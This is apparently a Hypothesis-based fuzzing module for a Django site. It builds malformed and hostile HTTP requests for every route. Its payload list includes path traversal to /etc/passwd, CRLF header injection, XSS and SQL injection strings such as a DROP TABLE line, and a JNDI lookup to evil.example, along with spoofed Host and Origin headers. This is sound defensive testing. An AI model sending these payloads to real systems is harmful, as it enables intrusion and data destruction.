"""Requests that nobody well-meaning would send, for every route that there is."""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from functools import cache
from typing import Any
from urllib.parse import quote

from django.http import HttpResponseBase
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver
from hypothesis import strategies as st

HOSTILE = [
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "....//....//etc/passwd",
    "%2e%2e/%2e%2e/manage.py",
    "file:///etc/passwd",
    "\x00",
    "a\x00b",
    "a\r\nSet-Cookie: evil=1",
    "a\nX-Evil: 1",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "https://evil.example/",
    "//evil.example/",
    "\\\\evil.example\\x",
    "' OR '1'='1",
    "'; DROP TABLE plan_plan; --",
    "%' ESCAPE '",
    '" OR NEAR(a b) *',
    "a:* & !b | <->",
    "{{7*7}}{% debug %}",
    "${jndi:ldap://evil.example}",
    "=HYPERLINK(1)",
    "\ud83d\udca3",
    "ﷺ" * 50,
    "\u202e\u0000\ufeff",
    "-1",
    "0",
    "99999999999999999999999999",
    "9" * 400,
    "1e999",
    "NaN",
    "None",
    "true",
    "[]",
    "2024-02-30",
    "0000-00-00",
    "x" * 3000,
    "",
    " ",
    ".",
    "..",
    "@0.1",
    "@9999999999.0",
    "%ff%fe",
]
GOOD = {
    "lang": ["ja", "en"],
    "slug": ["sample", "sample/@0.1", "nowhere"],
    "key": ["onsen", "skills", "industry", "courses", "about", "gone"],
    "year": ["2024", "1999"],
    "number": ["0.1", "0.2", "9.9"],
    "before": ["0.1"],
    "after": ["0.2"],
    "day": ["2026-04-01", "2099-12-31", "0001-01-01"],
    "language": ["ja", "en"],
    "token": ["x" * 43],
    "rest": ["", "onsen/", "indicators.csv"],
}
NAMES = (
    "q page kind policy division status standing sort order lang format url edition as_of fields "
    "limit offset cursor next language since until before after key keys part year width maxwidth "
    "callback columns _changelist_filters"
).split()
METHODS = ["get"] * 14 + ["head", "post", "post", "put", "delete", "options", "patch", "trace"]
HEADERS = {
    "host": ["testserver", "evil.example", "testserver:99999", "a b", "[::1", "testserver@evil"],
    "x-forwarded-host": ["evil.example"],
    "x-forwarded-for": ["127.0.0.1, nonsense", "\x00"],
    "x-forwarded-proto": ["https", "gopher"],
    "accept-language": ["xx-!!,*;q=NaN", "ja" * 500],
    "accept": ["application/json", "text/markdown;q=9", "*/*;" * 100],
    "accept-encoding": ["br;q=x", "gzip, deflate, identity;q=0"],
    "if-none-match": ['W/"', "*", '"x", ' * 200],
    "if-modified-since": ["yesterday", "Thu, 31 Feb 2099 00:00:00 GMT"],
    "range": ["bytes=0-0", "bytes=9-1,-0", "lines=1"],
    "origin": ["https://evil.example", "null"],
    "referer": ["https://evil.example/", "\x01"],
    "cookie": ["sessionid=../../x; csrftoken=1", "sessionid=" + "x" * 5000, "messages=!!"],
    "content-type": ["application/json", "multipart/form-data", "text/xml", "x" * 300],
    "content-length": ["-1", "nine"],
}
BODIES = [b"", b"a=1", b"{" * 3000, b"\xff\xfe\x00", b"--x\r\nContent-Disposition: form-data; name"]


@dataclass(frozen=True, slots=True)
class Hostile:
    """One request."""

    method: str
    path: str
    headers: dict[str, str] = field(default_factory=dict)
    body: bytes = b""

    def send(self, client: Client) -> HttpResponseBase:
        """Send it, as the bytes that it is."""
        data: dict[str, Any] = {"headers": self.headers}
        if self.method not in {"get", "head"}:
            data |= {"data": self.body, "content_type": "application/x-www-form-urlencoded"}
        if self.method == "trace":
            data.pop("data")
            data.pop("content_type")
        found: HttpResponseBase = getattr(client, self.method)(self.path, **data)
        return found


@cache
def routes() -> tuple[str, ...]:
    """Return every route of the site, with the names of its parts in angle brackets."""
    return tuple(sorted(set(_walk(get_resolver().url_patterns, ""))))


def _walk(patterns: Any, before: str) -> Iterator[str]:
    for one in patterns:
        route = before + str(one.pattern)
        if isinstance(one, URLResolver):
            yield from _walk(one.url_patterns, route)
        elif isinstance(one, URLPattern):
            yield re.sub(r"[\^$?]|\\.|\(\?:.*?\)", "", route)


PART = re.compile(r"<(?:\w+:)?(\w+)>")
strange = st.one_of(st.sampled_from(HOSTILE), st.text(max_size=40))


@st.composite
def hostile_requests(draw: st.DrawFn) -> Hostile:
    """Draw a request for some route: well formed in most parts, and wrong in some."""
    public = tuple(one for one in routes() if not one.startswith("admin/"))
    route = draw(st.sampled_from(public if draw(st.integers(0, 3)) else routes()))

    def part(match: re.Match[str]) -> str:
        good = GOOD.get(match[1], ["1", "sample"])
        return draw(st.sampled_from(good) if draw(st.integers(0, 3)) else strange)

    path = "/" + quote(PART.sub(part, route), safe="/@.~-", errors="replace")
    if draw(st.integers(0, 7)) == 0:
        path += quote(draw(strange), safe="/%", errors="replace")
    names = draw(st.lists(st.sampled_from(NAMES), max_size=3))
    pairs = [f"{name}={quote(draw(strange), safe='%', errors='replace')}" for name in names]
    headers = {
        name: draw(st.sampled_from(HEADERS[name]))
        for name in draw(st.lists(st.sampled_from(sorted(HEADERS)), max_size=2, unique=True))
    }
    query = f"?{'&'.join(pairs)}" if pairs else ""
    body = draw(st.sampled_from(BODIES))
    return Hostile(draw(st.sampled_from(METHODS)), path + query, headers, body)
